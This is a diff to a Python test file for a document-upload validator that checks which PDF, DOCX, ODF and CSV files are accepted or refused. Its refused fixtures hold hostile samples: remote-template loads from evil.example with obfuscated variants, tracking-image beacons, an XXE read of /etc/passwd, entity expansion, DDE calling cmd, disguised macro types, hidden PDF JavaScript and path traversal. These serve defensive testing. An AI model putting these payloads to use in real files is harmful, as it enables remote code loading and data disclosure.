@@ -15,6 +15,27 @@ from catalogue_portal.evidence.intake import plain_name
 from catalogue_portal.evidence.types import evidence_types
 from doctrine.evidence_types import Format
 
+SCRIPT = "urn:oasis:names:tc:opendocument:xmlns:script:1.0"
+BASIC = f'<d xmlns:anything="{SCRIPT}"><anything:event-listener/></d>'
+TEMPLATE = (
+    '<Relationships xmlns="http://x"><Relationship Id="r" TargetMode="External" Target="https://evil.example/t.dotm" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
+)
+HYPERLINK = TEMPLATE.replace("attachedTemplate", "hyperlink")
+DISGUISED = (
+    TEMPLATE.replace('="External"', ' = "External"'),
+    TEMPLATE.replace('"External"', '"&#69;xternal"'),
+    TEMPLATE.replace("attachedTemplate", "attached&#84;emplate"),
+    TEMPLATE.replace('Id="r"', 'Id=">"'),
+    TEMPLATE.encode("utf-16"),
+)
+IMAGE = '<d xmlns:x="http://www.w3.org/1999/xlink" xmlns:draw="draw"><draw:image x:href="{}"/></d>'
+XXE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
+LAUGHS = '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><d>&b;</d>'
+OBJECTS = b"/Type /ObjStm /N 1 /First 4 "
+HIDDEN = zlib.compressobj(level=0)
+BEHIND = HIDDEN.compress(b"endstream << /S /JavaScript >>") + HIDDEN.flush()
+
 HONEST = [
     (Format.PDF, pdf()),
     (Format.PDF, pdf(stream(b"BT (Bonjour) Tj ET"), tail=b"\r\n")),
@@ -24,23 +45,14 @@ HONEST = [
     (Format.ODT, odf(Configurations2__accelerator__current_dot_xml="")),
     (Format.ODS, odf(ODS)),
     (Format.DOCX, docx()),
+    (Format.DOCX, docx(word___rels__document_dot_xml_dot_rels=HYPERLINK)),
+    (Format.ODT, odf(styles_dot_xml=IMAGE.format("Pictures/seen.png"))),
+    (Format.ODT, odf(styles_dot_xml=IMAGE.format("https://example.org").replace("draw:image", "draw:a"))),
     (Format.CSV, "critère;réponse\n1;oui\n2;non\n".encode()),
     (Format.CSV, b"\xef\xbb\xbfa,b\r\n1,2\r\n"),
     (Format.TEXT, b"Nous lisons vos mesures, pour vous les montrer.\nEt rien d'autre.\n"),
     (Format.TEXT, b"a;b\n1\n"),
 ]
-SCRIPT = "urn:oasis:names:tc:opendocument:xmlns:script:1.0"
-BASIC = f'<d xmlns:anything="{SCRIPT}"><anything:event-listener/></d>'
-TEMPLATE = (
-    '<Relationships xmlns="http://x"><Relationship Id="r" TargetMode="External" Target="https://evil.example/t.dotm" '
-    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
-)
-XXE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
-LAUGHS = '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><d>&b;</d>'
-OBJECTS = b"/Type /ObjStm /N 1 /First 4 "
-HIDDEN = zlib.compressobj(level=0)
-BEHIND = HIDDEN.compress(b"endstream << /S /JavaScript >>") + HIDDEN.flush()
-
 REFUSED = [
     ("document_empty", b" \n "),
     ("document_unknown", b"MZ\x90\x00\x03"),
@@ -96,6 +108,16 @@ REFUSED = [
         docx('<Default Extension="bin" ContentType="application/vnd.ms-word.document.macroEnabled"/>'),
     ),
     ("document_can_act", docx(word___rels__settings_dot_xml_dot_rels=TEMPLATE)),
+    *(("document_can_act", docx(word___rels__settings_dot_xml_dot_rels=one)) for one in DISGUISED),
+    ("document_can_act", docx(word___rels__document_dot_xml_dot_rels=TEMPLATE.replace("attachedTemplate", "image"))),
+    ("document_can_act", docx('<Default Extension="xin" ContentType="application/vnd.ms-word.macro&#69;nabled"/>')),
+    ("document_can_act", docx('<Override PartName="/word/a.dat" ContentType="application/vnd.vba&#80;roject"/>')),
+    ("document_can_act", odf(styles_dot_xml=IMAGE.format("https://evil.example/seen.png"))),
+    ("document_can_act", odf(styles_dot_xml=IMAGE.format("//evil.example/seen.png"))),
+    ("document_can_act", odf(styles_dot_xml='<d xmlns:o="o"><o:dde-source o:dde-application="cmd"/></d>')),
+    ("document_can_act", odf(ODS, styles_dot_xml='<d xmlns:t="t"><t:c t:formula="of:=DDE(1;2)"/></d>')),
+    ("document_damaged", odf(settings_dot_xml='<?xml version="1.0" encoding="utf-7"?><d/>')),
+    ("document_damaged", odf(settings_dot_xml='<?xml version="1.0" encoding="x-none"?><d/>')),
     ("document_encloses_files", docx(word__embeddings__sheet_dot_xlsx=b"PK")),
     ("document_encloses_files", odf(payload_dot_exe=b"MZ")),
     ("document_damaged", odf(**{"..__..__etc__passwd": "x"})),
